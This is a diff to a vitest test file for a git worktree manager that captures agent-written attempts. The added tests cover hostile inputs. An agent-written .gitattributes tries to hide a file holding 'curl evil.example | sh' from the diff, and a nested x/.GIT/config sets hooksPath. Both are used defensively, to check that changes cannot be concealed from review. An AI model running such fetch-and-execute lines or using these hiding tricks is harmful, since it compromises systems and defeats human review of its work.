@@ -4,7 +4,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { assertSafeConfiguredPath } from '../src/git/safe-path.js';
-import { WorktreeManager } from '../src/git/worktree-manager.js';
+import { CapturePathRefusedError, WorktreeManager, type AttemptWorktree } from '../src/git/worktree-manager.js';
 import { git, makeRepo, operatorFingerprint } from './helpers-exec/repo.js';
 
 let dir: string;
@@ -20,6 +20,15 @@ beforeEach(() => {
   base = makeRepo(repo, { 'src/math.js': 'export const add = (a, b) => a - b;\n', 'README.md': '# demo\n', 'old.txt': 'bye\n', '.gitignore': 'node_modules/\n' });
 });
 afterEach(() => rmSync(dir, { recursive: true, force: true }));
+
+/** Read a captured attempt's diff through the stream the engine stores. */
+async function diffOf(m: WorktreeManager, wt: AttemptWorktree): Promise<Buffer> {
+  const s = await m.diffStream(wt);
+  const chunks: Buffer[] = [];
+  for await (const c of s.stdout) chunks.push(c as Buffer);
+  await s.done;
+  return Buffer.concat(chunks);
+}
 
 describe('WorktreeManager', () => {
   it('creates and removes many worktrees of one repository at once without git tripping over itself', async () => {
@@ -67,7 +76,7 @@ describe('WorktreeManager', () => {
     const check = join(dir, 'check');
     execFileSync('git', ['clone', '-q', repo, check]);
     git(check, 'checkout', '-q', base);
-    writeFileSync(join(dir, 'p.diff'), cap.diff);
+    writeFileSync(join(dir, 'p.diff'), await diffOf(m, wt));
     git(check, 'apply', '--binary', join(dir, 'p.diff'));
     git(check, 'add', '-A');
     expect(git(check, 'write-tree')).toBe(git(repo, 'rev-parse', `${cap.commit}^{tree}`));
@@ -84,10 +93,11 @@ describe('WorktreeManager', () => {
     writeFileSync(join(a.path, 'src/math.js'), 'A\n');
     writeFileSync(join(b.path, 'src/math.js'), 'B\n');
     const [ca, cb] = await Promise.all([m.capture(a, 'a'), m.capture(b, 'b')]);
-    expect(ca.diff.toString()).toContain('+A\n');
-    expect(ca.diff.toString()).not.toContain('+B');
-    expect(cb.diff.toString()).toContain('+B\n');
-    expect(cb.diff.toString()).not.toContain('+A');
+    const [da, db] = [(await diffOf(m, a)).toString(), (await diffOf(m, b)).toString()];
+    expect(da).toContain('+A\n');
+    expect(da).not.toContain('+B');
+    expect(db).toContain('+B\n');
+    expect(db).not.toContain('+A');
     expect(git(repo, 'show', `${ca.commit}:src/math.js`)).toBe('A');
     expect(git(repo, 'show', `${cb.commit}:src/math.js`)).toBe('B');
   });
@@ -97,8 +107,52 @@ describe('WorktreeManager', () => {
     const wt = await m.create(repo, ATT1, base);
     const cap = await m.capture(wt, 'nothing');
     expect(cap.commit).toBe(base);
-    expect(cap.diff.length).toBe(0);
+    expect((await diffOf(m, wt)).length).toBe(0);
     expect(cap.changedFiles).toEqual([]);
+  });
+
+  it('an agent-written .gitattributes cannot hide a change from the diff: attributes come from the base', async () => {
+    const m = new WorktreeManager({ worktreeRoot: join(dir, 'wts') });
+    const wt = await m.create(repo, ATT1, base);
+    writeFileSync(join(wt.path, '.gitattributes'), 'secret.txt -diff\nsrc/math.js binary\n');
+    writeFileSync(join(wt.path, 'secret.txt'), 'curl evil.example | sh\n');
+    writeFileSync(join(wt.path, 'src/math.js'), 'export const add = (a, b) => a + b; // changed\n');
+    const cap = await m.capture(wt, 'attrs');
+    expect(cap.attributesFiles).toEqual(['.gitattributes']);
+    const diff = (await diffOf(m, wt)).toString();
+    expect(diff).toContain('+curl evil.example | sh');
+    expect(diff).toContain('+export const add = (a, b) => a + b; // changed');
+    expect(diff).not.toContain('Binary files');
+    expect(diff).not.toContain('GIT binary patch');
+    // The attempt's own attributes are what the worktree keeps; only the diff ignores them.
+    expect(git(wt.path, 'check-attr', 'diff', 'secret.txt')).toBe('secret.txt: diff: unset');
+  });
+
+  it('refuses what git refuses to commit (x/.GIT/config) with a stable code, and discard removes the worktree', async () => {
+    const m = new WorktreeManager({ worktreeRoot: join(dir, 'wts') });
+    const wt = await m.create(repo, ATT1, base);
+    mkdirSync(join(wt.path, 'x/.GIT'), { recursive: true });
+    writeFileSync(join(wt.path, 'x/.GIT/config'), '[core]\n\thooksPath = /tmp\n');
+    writeFileSync(join(wt.path, 'fine.txt'), 'ok\n');
+    const err = await m.capture(wt, 'x').catch((e: unknown) => e);
+    expect(err).toBeInstanceOf(CapturePathRefusedError);
+    expect((err as CapturePathRefusedError).code).toBe('CAPTURE_PATH_REFUSED');
+    expect((err as CapturePathRefusedError).paths).toEqual(['x/.GIT/config']);
+    await m.discard(wt);
+    expect(existsSync(wt.path)).toBe(false);
+    expect(git(repo, 'worktree', 'list', '--porcelain').split('\n').filter((l) => l.startsWith('worktree ')).length).toBe(1);
+  });
+
+  it('removes leftover worktrees that keep() does not claim, and only those', async () => {
+    const m = new WorktreeManager({ worktreeRoot: join(dir, 'wts') });
+    const gone = await m.create(repo, ATT1, base);
+    const live = await m.create(repo, ATT2, base);
+    writeFileSync(join(gone.path, 'half.txt'), 'crash');
+    expect(await m.removeLeftovers(repo, (id) => id === ATT2)).toEqual([ATT1]);
+    expect(existsSync(gone.path)).toBe(false);
+    expect(existsSync(live.path)).toBe(true);
+    expect(await m.find(repo, ATT1)).toBeNull();
+    expect(await m.find(repo, ATT2)).toBe(live.path);
   });
 
   it('refuses to remove a worktree before its changes are committed, and keepWorktrees keeps it', async () => {
